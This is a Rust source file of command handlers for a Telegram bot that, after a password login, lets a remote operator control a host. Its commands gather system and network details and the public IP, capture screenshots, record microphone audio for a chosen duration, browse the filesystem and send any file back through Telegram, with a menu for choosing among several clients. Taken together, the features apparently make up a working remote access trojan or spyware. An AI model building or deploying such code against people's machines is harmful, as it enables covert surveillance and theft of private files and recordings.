//! Command handlers for the Telegram bot.

use std::sync::Arc;

use chrono::Local;
use kiss_host::files::{self, READ_CAP};
use kiss_host::network::{self, NetworkInfo};
use kiss_host::{HostError, SystemInfo};
use teloxide::prelude::*;
use teloxide::types::{ChatAction, ChatId, InputFile, UserId};
use teloxide::utils::command::BotCommands;
use tracing::{debug, error, info, warn};

use crate::auth::LoginOutcome;
use crate::callbacks::{client_keyboard, duration_keyboard};
use crate::error::{BotError, Result};
use crate::state::BotState;

/// Longest text sent in one message. Telegram's hard limit is 4096.
pub const MESSAGE_LIMIT: usize = 4000;

/// Bot commands that can be invoked with /.
#[derive(BotCommands, Clone, Debug, PartialEq)]
#[command(rename_rule = "lowercase", description = "Available commands:")]
pub enum Command {
    #[command(description = "Authenticate: /login <password>")]
    Login(String),

    #[command(description = "Show this menu")]
    Start,

    #[command(description = "Show this menu")]
    Help,

    #[command(description = "Manage clients")]
    Clients,

    #[command(description = "System information")]
    Info,

    #[command(description = "Network information")]
    Network,

    #[command(description = "Take a screenshot")]
    Screenshot,

    #[command(description = "Record audio")]
    Record,

    #[command(description = "Explore filesystem: /explore [cd|ls|cat <path>]")]
    Explore(String),

    #[command(description = "Get a file: /getfile <path>")]
    Getfile(String),
}

impl Command {
    /// Everything except `/login` needs an authenticated session.
    pub fn requires_auth(&self) -> bool {
        !matches!(self, Command::Login(_))
    }

    /// Command name for logs. Arguments are left out so passwords stay out of
    /// the log.
    pub fn name(&self) -> &'static str {
        match self {
            Command::Login(_) => "login",
            Command::Start => "start",
            Command::Help => "help",
            Command::Clients => "clients",
            Command::Info => "info",
            Command::Network => "network",
            Command::Screenshot => "screenshot",
            Command::Record => "record",
            Command::Explore(_) => "explore",
            Command::Getfile(_) => "getfile",
        }
    }
}

/// An operation whose failure is reported to the operator.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Action {
    Info,
    Network,
    Screenshot,
    Record,
    ListDir,
    ChangeDir,
    ReadFile,
    GetFile,
}

impl Action {
    /// Operator-facing text for a failed action.
    pub fn failure_text(&self, err: &BotError) -> String {
        match err {
            BotError::NotAuthenticated
            | BotError::LockedOut { .. }
            | BotError::UnknownClient(_) => return err.to_string(),
            _ => {}
        }

        match self {
            Action::Info => "Error retrieving system information.".to_string(),
            Action::Network => "Error retrieving network information.".to_string(),
            Action::Screenshot => "Error taking or sending screenshot.".to_string(),
            Action::Record => match err {
                BotError::Host(_) => "Failed to create audio recording.".to_string(),
                _ => "An error occurred during recording.".to_string(),
            },
            Action::ListDir => format!("Error listing directory: {}", err),
            Action::ChangeDir => format!("Error changing directory: {}", err),
            Action::ReadFile => format!("Error reading file: {}", err),
            Action::GetFile => match err {
                BotError::Host(HostError::NotFound(path)) => {
                    format!("File not found: {}", path.display())
                }
                _ => format!("Error sending file: {}", err),
            },
        }
    }
}

/// Translate the outcome of an action into a reply.
///
/// Successful actions have already replied; failures are logged and turned
/// into the action's failure text.
pub async fn report(bot: &Bot, chat_id: ChatId, action: Action, result: Result<()>) -> ResponseResult<()> {
    if let Err(e) = result {
        error!(chat_id = %chat_id, action = ?action, error = %e, "Action failed");
        bot.send_message(chat_id, action.failure_text(&e)).await?;
    }
    Ok(())
}

/// Split text into chunks of at most `limit` characters, preferring line
/// boundaries.
pub fn split_message(text: &str, limit: usize) -> Vec<String> {
    let mut chunks = Vec::new();
    let mut rest = text;

    while rest.chars().count() > limit {
        let byte_limit = rest
            .char_indices()
            .nth(limit)
            .map(|(i, _)| i)
            .unwrap_or(rest.len());
        let head = &rest[..byte_limit];
        let cut = match head.rfind('\n') {
            Some(i) if i > 0 => i + 1,
            _ => byte_limit,
        };
        chunks.push(rest[..cut].to_string());
        rest = &rest[cut..];
    }

    if !rest.is_empty() || chunks.is_empty() {
        chunks.push(rest.to_string());
    }
    chunks
}

async fn send_text(bot: &Bot, chat_id: ChatId, text: &str) -> Result<()> {
    for chunk in split_message(text, MESSAGE_LIMIT) {
        bot.send_message(chat_id, chunk).await?;
    }
    Ok(())
}

/// A parsed `/explore` argument.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ExploreRequest {
    /// No argument: list the session directory.
    ListCwd,
    Cd(String),
    Ls(String),
    Cat(String),
    Invalid,
}

impl ExploreRequest {
    fn action(&self) -> Action {
        match self {
            ExploreRequest::Cd(_) => Action::ChangeDir,
            ExploreRequest::Cat(_) => Action::ReadFile,
            _ => Action::ListDir,
        }
    }
}

/// Parse the argument of `/explore`. Sub-commands are case-insensitive and
/// need a path.
pub fn parse_explore(args: &str) -> ExploreRequest {
    let args = args.trim();
    if args.is_empty() {
        return ExploreRequest::ListCwd;
    }

    let (verb, path) = match args.split_once(char::is_whitespace) {
        Some((verb, path)) => (verb, path.trim()),
        None => (args, ""),
    };
    if path.is_empty() {
        return ExploreRequest::Invalid;
    }

    match verb.to_lowercase().as_str() {
        "cd" => ExploreRequest::Cd(path.to_string()),
        "ls" => ExploreRequest::Ls(path.to_string()),
        "cat" => ExploreRequest::Cat(path.to_string()),
        _ => ExploreRequest::Invalid,
    }
}

/// Handle the /login command.
///
/// The password is everything after the command with surrounding whitespace
/// trimmed; the configured password is trimmed the same way.
async fn handle_login(
    bot: Bot,
    msg: Message,
    state: Arc<BotState>,
    operator: UserId,
    password: String,
) -> ResponseResult<()> {
    let password = password.trim();
    if password.is_empty() {
        bot.send_message(msg.chat.id, "Usage: /login <password>").await?;
        return Ok(());
    }

    // the password should not linger in the chat history
    if let Err(e) = bot.delete_message(msg.chat.id, msg.id).await {
        debug!(chat_id = %msg.chat.id, error = %e, "Could not delete login message");
    }

    let reply = match state
        .sessions()
        .authenticate(operator, password, msg.chat.id)
        .await
    {
        Ok(LoginOutcome::Authenticated) => "Authentication successful.".to_string(),
        Ok(LoginOutcome::Rejected {
            attempts_left: Some(left),
        }) => format!("Incorrect password. {} attempt(s) left.", left),
        Ok(LoginOutcome::Rejected { attempts_left: None }) => "Incorrect password.".to_string(),
        Err(e) => e.to_string(),
    };

    bot.send_message(msg.chat.id, reply).await?;
    Ok(())
}

/// Handle /start and /help.
async fn handle_help(bot: Bot, msg: Message) -> ResponseResult<()> {
    bot.send_message(msg.chat.id, Command::descriptions().to_string())
        .await?;
    Ok(())
}

/// Handle the /clients command.
async fn handle_clients(bot: Bot, msg: Message, state: Arc<BotState>) -> ResponseResult<()> {
    let operators = state.sessions().authenticated_operators().await;
    debug!(chat_id = %msg.chat.id, count = operators.len(), "Listing clients");

    bot.send_message(msg.chat.id, "Select a client:")
        .reply_markup(client_keyboard(&operators))
        .await?;
    Ok(())
}

/// Handle the /record command: offer the duration menu.
async fn handle_record(bot: Bot, msg: Message) -> ResponseResult<()> {
    bot.send_message(msg.chat.id, "Choose recording duration:")
        .reply_markup(duration_keyboard())
        .await?;
    Ok(())
}

async fn system_info(bot: &Bot, chat_id: ChatId, state: &BotState) -> Result<()> {
    let info = state.offload(|| Ok(SystemInfo::collect())).await?;
    send_text(bot, chat_id, &info.to_string()).await
}

async fn network_info(bot: &Bot, chat_id: ChatId, state: &BotState) -> Result<()> {
    let mut info = state.offload(NetworkInfo::collect).await?;

    if let Some(url) = state.public_ip_url() {
        let ip = network::lookup_public_ip(state.http(), url).await?;
        info = info.with_public_ip(ip);
    }

    send_text(bot, chat_id, &info.to_string()).await
}

async fn screenshot(bot: &Bot, chat_id: ChatId, state: &BotState) -> Result<()> {
    let capturer = state.screen()?;
    bot.send_chat_action(chat_id, ChatAction::UploadPhoto).await?;

    let shot = state.offload(move || capturer.capture()).await?;
    let taken = Local::now();
    bot.send_photo(
        chat_id,
        InputFile::file(shot.path()).file_name(format!("screenshot-{}.png", taken.format("%Y%m%d-%H%M%S"))),
    )
    .caption(format!("Screenshot {}", taken.format("%Y-%m-%d %H:%M:%S")))
    .await?;

    info!(chat_id = %chat_id, "Screenshot sent");
    Ok(())
}

/// Record `secs` seconds of audio and send it to `chat_id`.
///
/// Blocks a worker for the whole recording. The WAV file is removed once
/// sent, or on any failure.
pub async fn record_audio(bot: &Bot, chat_id: ChatId, state: &BotState, secs: u32) -> Result<()> {
    let recorder = state.recorder()?;
    bot.send_message(chat_id, format!("Recording for {} seconds...", secs))
        .await?;

    let recording = state.offload(move || recorder.record(secs)).await?;

    if recording.duration_mismatch() {
        warn!(
            chat_id = %chat_id,
            requested = recording.requested_secs(),
            actual = recording.actual_secs(),
            "Recording duration mismatch"
        );
        bot.send_message(
            chat_id,
            format!(
                "Warning: Actual recording duration ({:.2}s) differs from requested duration ({}s).",
                recording.actual_secs(),
                recording.requested_secs()
            ),
        )
        .await?;
    }

    bot.send_chat_action(chat_id, ChatAction::UploadVoice).await?;
    let name = format!("recording-{}.wav", Local::now().format("%Y%m%d-%H%M%S"));
    bot.send_audio(chat_id, InputFile::file(recording.path()).file_name(name))
        .await?;

    info!(chat_id = %chat_id, secs, "Recording sent");
    Ok(())
}

async fn explore(
    bot: &Bot,
    chat_id: ChatId,
    state: &BotState,
    operator: UserId,
    request: ExploreRequest,
) -> Result<()> {
    let cwd = state.sessions().cwd(operator).await?;

    match request {
        ExploreRequest::ListCwd => {
            let listing = state.offload(move || files::list_dir(&cwd)).await?;
            send_text(bot, chat_id, &listing.to_string()).await
        }
        ExploreRequest::Ls(arg) => {
            let path = files::resolve(&cwd, &arg);
            let listing = state.offload(move || files::list_dir(&path)).await?;
            send_text(bot, chat_id, &listing.to_string()).await
        }
        ExploreRequest::Cd(arg) => {
            let target = state.offload(move || files::change_dir(&cwd, &arg)).await?;
            state.sessions().set_cwd(operator, target.clone()).await?;
            info!(chat_id = %chat_id, cwd = %target.display(), "Changed directory");

            bot.send_message(chat_id, format!("Changed directory to: {}", target.display()))
                .await?;
            let listing = state.offload(move || files::list_dir(&target)).await?;
            send_text(bot, chat_id, &listing.to_string()).await
        }
        ExploreRequest::Cat(arg) => {
            let path = files::resolve(&cwd, &arg);
            let excerpt = state
                .offload(move || files::read_excerpt(&path, READ_CAP))
                .await?;
            send_text(bot, chat_id, &excerpt.to_string()).await
        }
        ExploreRequest::Invalid => {
            bot.send_message(chat_id, "Invalid command. Use 'cd', 'ls', or 'cat'.")
                .await?;
            Ok(())
        }
    }
}

async fn get_file(
    bot: &Bot,
    chat_id: ChatId,
    state: &BotState,
    operator: UserId,
    arg: &str,
) -> Result<()> {
    let cwd = state.sessions().cwd(operator).await?;
    let path = files::resolve(&cwd, arg);
    let target = state.offload(move || files::fetch_target(&path)).await?;

    bot.send_chat_action(chat_id, ChatAction::UploadDocument).await?;
    bot.send_document(chat_id, InputFile::file(target.clone()))
        .await?;

    info!(chat_id = %chat_id, path = %target.display(), "File sent");
    Ok(())
}

/// Dispatch commands to appropriate handlers.
///
/// Commands other than `/login` pass the authentication gate first; a
/// rejected command gets the login hint and nothing else happens.
pub async fn handle_command(
    bot: Bot,
    msg: Message,
    cmd: Command,
    state: Arc<BotState>,
) -> ResponseResult<()> {
    let chat_id = msg.chat.id;
    let Some(operator) = msg.from.as_ref().map(|u| u.id) else {
        debug!(chat_id = %chat_id, "Command without a sender ignored");
        return Ok(());
    };

    if cmd.requires_auth() {
        if let Err(e) = state.sessions().require_authenticated(operator).await {
            info!(chat_id = %chat_id, operator = operator.0, command = cmd.name(), "Rejected unauthenticated command");
            bot.send_message(chat_id, e.to_string()).await?;
            return Ok(());
        }
    }

    info!(chat_id = %chat_id, operator = operator.0, command = cmd.name(), "Command received");

    match cmd {
        Command::Login(password) => handle_login(bot, msg, state, operator, password).await,
        Command::Start | Command::Help => handle_help(bot, msg).await,
        Command::Clients => handle_clients(bot, msg, state).await,
        Command::Info => {
            let result = system_info(&bot, chat_id, &state).await;
            report(&bot, chat_id, Action::Info, result).await
        }
        Command::Network => {
            let result = network_info(&bot, chat_id, &state).await;
            report(&bot, chat_id, Action::Network, result).await
        }
        Command::Screenshot => {
            let result = screenshot(&bot, chat_id, &state).await;
            report(&bot, chat_id, Action::Screenshot, result).await
        }
        Command::Record => handle_record(bot, msg).await,
        Command::Explore(args) => {
            let request = parse_explore(&args);
            let action = request.action();
            let result = explore(&bot, chat_id, &state, operator, request).await;
            report(&bot, chat_id, action, result).await
        }
        Command::Getfile(arg) => {
            let arg = arg.trim();
            if arg.is_empty() {
                bot.send_message(chat_id, "Usage: /getfile <file_path>").await?;
                return Ok(());
            }
            let result = get_file(&bot, chat_id, &state, operator, arg).await;
            report(&bot, chat_id, Action::GetFile, result).await
        }
    }
}

/// Reply to a `/command` that did not parse.
pub async fn handle_unknown(bot: Bot, msg: Message) -> ResponseResult<()> {
    if let Some(text) = msg.text() {
        let name = text.split_whitespace().next().unwrap_or(text);
        info!(chat_id = %msg.chat.id, command = %name, "Unrecognized command");
        bot.send_message(
            msg.chat.id,
            format!("Unknown command: {}\n\nUse /start to see available commands.", name),
        )
        .await?;
    }
    Ok(())
}
